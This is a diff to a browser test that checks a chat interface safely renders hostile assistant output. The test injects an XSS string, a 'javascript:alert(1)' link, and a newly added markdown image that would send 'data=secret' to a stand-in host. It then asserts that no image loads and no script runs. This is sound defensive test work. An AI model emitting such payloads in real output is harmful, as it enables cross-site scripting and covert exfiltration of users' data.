@@ -197,7 +197,8 @@ def test_unsafe_html_never_runs(page: Any) -> None:
         page,
         f"""{{type: "reset", has_more: false, messages: [
           __msg("m1", "user", {XSS!r}, {{context: [{{kind: "text", label: {XSS!r}, text: "x"}}]}}),
-          __msg("m2", "assistant", "Output:\\n\\n" + {XSS!r} + "\\n\\n[link](javascript:alert(1))",
+          __msg("m2", "assistant", "Output:\\n\\n" + {XSS!r} + "\\n\\n[link](javascript:alert(1))"
+            + "\\n\\n![leak](http://127.0.0.1:9/leak.png?data=secret)",
             {{parts: [{{kind: "tool", call_id: "t", name: "bash", status: "completed",
               output: {XSS!r}}}]}}),
         ]}}""",
@@ -214,6 +215,8 @@ def test_unsafe_html_never_runs(page: Any) -> None:
     assert page.locator(".jo-chat [onerror]").count() == 0
     hrefs = page.eval_on_selector_all(".jo-chat a", "els => els.map(a => a.getAttribute('href'))")
     assert not any(h and h.startswith("javascript:") for h in hrefs)
+    assert page.locator(".jo-chat img").count() == 0
+    assert "http://127.0.0.1:9/leak.png?data=secret" in hrefs
     shot(page, "02-xss")
 
 
